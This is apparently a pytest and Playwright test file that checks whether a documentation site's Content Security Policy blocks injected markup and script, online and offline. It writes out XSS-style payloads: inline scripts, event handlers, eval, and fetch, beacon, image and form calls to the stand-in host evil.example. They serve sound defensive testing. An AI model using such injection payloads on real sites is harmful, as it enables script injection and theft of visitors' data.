"""A browser holds every page to its policy."""

import re
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Route, expect

from macros.site.offline import BuiltSite, offline_files
from macros.site.site import read_address
from tests.browser.fixtures import Opener, watched
from tests.site.csp import POLICY


def test_nothing_that_a_reader_does_is_against_the_policy(open_page: Opener, root: str) -> None:
    page = open_page("404.html", permissions=["clipboard-write"])
    complaints = watched(page)
    page.goto(f"{root}404.html")
    page.goto(f"{root}applications/decrypter/")
    page.locator(".md-header__option button:visible").click()
    page.locator("details:has(pre) > summary").first.click()
    page.locator("pre button").first.click()
    expect(page.locator(".md-dialog__inner")).to_have_text("Copied to clipboard")
    page.get_by_role("textbox", name="Search").click()
    page.keyboard.type("SQS")
    expect(page.locator(".md-search-result__item").first).to_be_visible()
    page.keyboard.press("Escape")
    page.set_viewport_size({"width": 390, "height": 800})
    page.locator(".md-header label[for=__drawer]").click()
    assert not complaints


# What an intruder would have a page do: it says so by `ran`, or asks another host for a file of that name.
WRITTEN = """
<script>ran("an inline script")</script>
<img src="data:," onerror="ran('an event handler')">
<a id="address" href="javascript:ran('an address that is script')">x</a>
<script src="https://evil.example/script"></script>
<link rel="stylesheet" href="https://evil.example/stylesheet">
<iframe src="https://evil.example/frame"></iframe>
<iframe srcdoc="<script>parent.ran('a frame without address')</script>"></iframe>
<object data="https://evil.example/object"></object>
<p style="float: right" id="painted">x</p>
<script src="hostile.js"></script>
"""
SCRIPTED = """
ran("a script of the site");
try { eval("ran('text that is evaluated')"); } catch {}
try { new Function("ran('text that becomes a function')")(); } catch {}
setTimeout("ran('text for later')");
document.body.append(Object.assign(document.createElement("script"), { text: "ran('a script that script writes')" }));
document.querySelector("#address").click();
fetch("https://evil.example/fetch").catch(() => {});
navigator.sendBeacon("https://evil.example/beacon");
new Image().src = "https://evil.example/picture";
const worker = URL.createObjectURL(new Blob(["onconnect = ({ ports }) => ports[0].postMessage(0)"]));
try { new SharedWorker(worker).port.onmessage = () => ran("a worker out of nothing"); } catch {}
const form = Object.assign(document.createElement("form"), { action: "https://evil.example/form", target: "_blank" });
document.body.append(form);
form.submit();
document.head.prepend(Object.assign(document.createElement("base"), { href: "https://evil.example/" }));
if (document.baseURI.startsWith("https://evil")) ran("another base");
if (getComputedStyle(document.querySelector("#painted")).float === "right") ran("a style attribute");
"""
ATTACKS = [
    *re.findall(r"""ran\(["'](.*?)["']\)""", WRITTEN + SCRIPTED.partition(";")[2]),
    *re.findall(r"https://evil\.example/(\w+)", WRITTEN + SCRIPTED),
]


@pytest.fixture(scope="module")
def done(browser: Browser, root: str) -> dict[bool, set[str]]:
    """What an intruder achieves on a page under its policy, and what he would without it."""
    return {ruled: achieved(browser, root, ruled) for ruled in (True, False)}


@pytest.fixture(scope="module")
def done_from_disk(browser: Browser, site: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[bool, set[str]]:
    """The same on a page of the offline edition."""
    folder = tmp_path_factory.mktemp("disk")
    for name, data in offline_files(BuiltSite(site, read_address(site))):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    (folder / "hostile.js").write_text(SCRIPTED, encoding="utf-8")
    html = (folder / "index.html").read_text(encoding="utf-8").replace("</article>", f"{WRITTEN}</article>")
    found = {}
    for ruled in (True, False):
        page = folder / f"broken-into-{ruled}.html"
        page.write_text(html if ruled else POLICY.sub("", html), encoding="utf-8")
        found[ruled] = seen_on(browser, page.as_uri())
    return found


def achieved(browser: Browser, root: str, ruled: bool) -> set[str]:
    def page_broken_into(route: Route) -> None:
        html = route.fetch().text().replace("</article>", f"{WRITTEN}</article>")
        route.fulfill(body=html if ruled else POLICY.sub("", html), content_type="text/html")

    def prepare(reader: BrowserContext) -> None:
        reader.route(f"{root}hostile.js", lambda route: route.fulfill(body=SCRIPTED, content_type="text/javascript"))
        reader.route(root, page_broken_into)

    return seen_on(browser, root, prepare)


def seen_on(browser: Browser, address: str, prepare: Callable[[BrowserContext], None] = lambda _: None) -> set[str]:
    """What attacks achieve on the page at an address, for which a reader's browser is prepared."""
    seen = set[str]()

    def elsewhere(route: Route) -> None:
        seen.add(route.request.url.rpartition("/")[2].rstrip("?"))
        route.fulfill(body="")

    with browser.new_context() as reader:
        page = reader.new_page()
        page.expose_function("ran", lambda attack: seen.add(attack))
        reader.route("https://evil.example/**", elsewhere)
        prepare(reader)
        page.goto(address, wait_until="networkidle")
    return seen


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_intruder_gets_nowhere_by(attack: str, done: dict[bool, set[str]]) -> None:
    assert attack in done[False], "this would have worked on no page; mend the test"
    assert attack not in done[True]


# Without an origin, a browser refuses these on a page from a disk of its own accord.
REFUSED_ANYWAY = ("a frame without address", "a worker out of nothing")


@pytest.mark.parametrize("attack", [attack for attack in ATTACKS if attack not in REFUSED_ANYWAY])
def test_an_intruder_gets_nowhere_in_the_offline_edition_by(attack: str, done_from_disk: dict[bool, set[str]]) -> None:
    assert attack in done_from_disk[False], "this would have worked on no page; mend the test"
    assert attack not in done_from_disk[True]


def test_a_script_of_the_site_runs(done: dict[bool, set[str]]) -> None:
    assert "a script of the site" in done[True] and "a script of the site" not in ATTACKS
